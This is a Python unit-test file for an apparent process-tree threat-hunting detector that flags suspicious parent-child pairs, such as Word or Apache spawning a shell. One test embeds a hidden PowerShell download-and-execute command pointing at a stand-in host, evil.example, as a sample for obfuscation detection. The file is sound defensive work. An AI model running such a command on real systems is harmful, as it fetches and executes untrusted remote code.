import pytest

from tests.unit.hunt.patterns.made import START, holds_its_word, process, said
from vedette.core.levels import Severity
from vedette.hunt.instants import MINUTE
from vedette.hunt.patterns.processes.trees import OddProcesses

WORD, CMD = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "C:\\Windows\\System32\\cmd.exe"


def test_a_document_that_starts_a_shell() -> None:
    (found,) = holds_its_word(
        OddProcesses,
        [process(WORD, CMD, "cmd /c dir", START), process(WORD, CMD, "cmd /c dir", START + MINUTE)],
    )
    assert found.severity is Severity.HIGH
    assert found.numbers["parent"] == "winword"
    assert found.count == 2
    assert "T1204.002" in found.techniques
    assert found.places[0].quote == "cmd /c dir"


@pytest.mark.parametrize(
    ("parent", "child"),
    [
        ("/usr/sbin/apache2", "/bin/sh"),
        ("sqlservr.exe", "cmd.exe"),
        ("evil.exe", "C:\\Windows\\System32\\svchost.exe"),
        ("sethc.exe", "cmd.exe"),
    ],
)
def test_who_should_not_start_whom(parent: str, child: str) -> None:
    assert len(said(OddProcesses(), [process(parent, child)])) == 1


@pytest.mark.parametrize(
    ("parent", "child"),
    [
        ("explorer.exe", "cmd.exe"),
        ("services.exe", "svchost.exe"),
        ("cmd.exe", "whoami.exe"),
        ("", "cmd.exe"),
        ("chrome.exe", "cmd.exe"),
    ],
)
def test_who_may(parent: str, child: str) -> None:
    assert said(OddProcesses(), [process(parent, child)]) == []


def test_what_happens_all_the_time_is_how_things_are_set_up() -> None:
    events = [process("httpd", "sh", "sh -c convert a b", host=f"web{number % 3}") for number in range(40)]
    assert said(OddProcesses(), events) == []


def test_a_command_that_hides_is_enough_alone() -> None:
    command = (
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.ex"
        "ample/a')\" ; ('a'+'b'+'c'+'d')"
    )
    (found,) = said(OddProcesses(), [process("explorer.exe", "powershell.exe", command)])
    assert found.title == "A command hides what it does"
    assert "T1027" in found.techniques


def test_what_is_forgotten_is_said() -> None:
    detector = OddProcesses()
    detector._pairs.limit = 5  # noqa: SLF001
    said(detector, [process("a.exe", f"b{number}x.exe") for number in range(9)])
    assert "forgotten" in next(detector.bounds())


def test_a_browser_speaks_to_its_helpers_through_a_shell() -> None:
    pipes = (
        "cmd.exe /d /c helper.exe chrome-extension://abc/ < \\\\.\\pipe\\chrome.nativeMessaging.in.1"
        " > \\\\.\\pipe\\chrome.nativeMessaging.out.1"
    )
    usual = [process("chrome.exe", "chrome.exe", "chrome.exe --type=renderer") for _ in range(300)]
    assert said(OddProcesses(), [*usual, process("chrome.exe", "cmd.exe", pipes)]) == []
    assert len(said(OddProcesses(), [*usual, process("chrome.exe", "cmd.exe", "cmd.exe /c dir")])) == 1


def test_an_unknown_parent_says_nothing() -> None:
    assert said(OddProcesses(), [process("-", "C:\\Windows\\System32\\svchost.exe")]) == []
